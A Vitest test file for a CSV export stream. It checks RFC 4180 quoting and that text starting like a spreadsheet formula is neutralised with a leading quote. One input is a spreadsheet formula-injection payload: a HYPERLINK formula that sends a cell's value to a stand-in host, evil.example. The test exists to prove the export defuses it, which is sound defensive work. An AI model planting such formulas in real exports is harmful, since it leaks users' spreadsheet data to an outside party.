import { describe, expect, it } from 'vitest';
import { csvStream } from './csv-stream';

/** The CSV written for one column `v` holding `values`, one record each, without the BOM and header. */
async function recordsOf(values: readonly unknown[]): Promise<string[]> {
  async function* items() {
    for (const v of values) yield { v };
  }
  const chunks: Buffer[] = [];
  for await (const chunk of csvStream(items(), ['v'])) chunks.push(chunk as Buffer);
  const text = Buffer.concat(chunks).toString('utf8');
  expect(text.startsWith('\uFEFFv\r\n')).toBe(true);
  expect(text.endsWith('\r\n')).toBe(true);
  return text.slice('\uFEFFv\r\n'.length, -2).split('\r\n');
}

/** docs/product/cockpit.md#csv-export: a cell is RFC 4180, and text that starts like a formula is text. */
describe('CSV cells', () => {
  it('puts a quote in front of text that starts with = + - @, tab or carriage return', async () => {
    expect(await recordsOf(['=1+1', '+91 98765 43210', '-2+3', '@SUM(A1:A2)', '\t=1', 'x'])).toEqual([
      "'=1+1",
      "'+91 98765 43210",
      "'-2+3",
      "'@SUM(A1:A2)",
      "'\t=1",
      'x',
    ]);
    // A carriage return inside the field: the field is quoted as RFC 4180 asks.
    expect(await recordsOf(['\r=1'])).toEqual([`"'\r=1"`]);
  });

  it('keeps numbers and booleans as they are, negative ones included', async () => {
    expect(await recordsOf([-5, -1299.5, 0, 42, true, false])).toEqual([
      '-5',
      '-1299.5',
      '0',
      '42',
      'true',
      'false',
    ]);
  });

  it('keeps ordinary text, and empty cells for null and missing values', async () => {
    expect(await recordsOf(['Kumar', 'राजेश', 'a=b', "'quoted'", null, undefined])).toEqual([
      'Kumar',
      'राजेश',
      'a=b',
      "'quoted'",
      '',
      '',
    ]);
  });

  it('quotes a cell with a quote, a comma, a line end or a semicolon, after the formula quote', async () => {
    expect(
      await recordsOf([
        '=HYPERLINK("http://evil.example/?x="&A1,"Refund")',
        'Kumar, "Raju"',
        'Line one\nline two',
        'a;=1+1',
      ]),
    ).toEqual([
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Refund"")"`,
      '"Kumar, ""Raju"""',
      '"Line one\nline two"',
      '"a;=1+1"',
    ]);
  });

  it('reads a joined list or an object as text: one that starts like a formula gets the quote', async () => {
    expect(await recordsOf([[-5, 3], ['=a', 'b'], ['a', 'b'], { a: 1 }])).toEqual([
      `"'-5; 3"`,
      `"'=a; b"`,
      '"a; b"',
      '"{""a"":1}"',
    ]);
  });
});
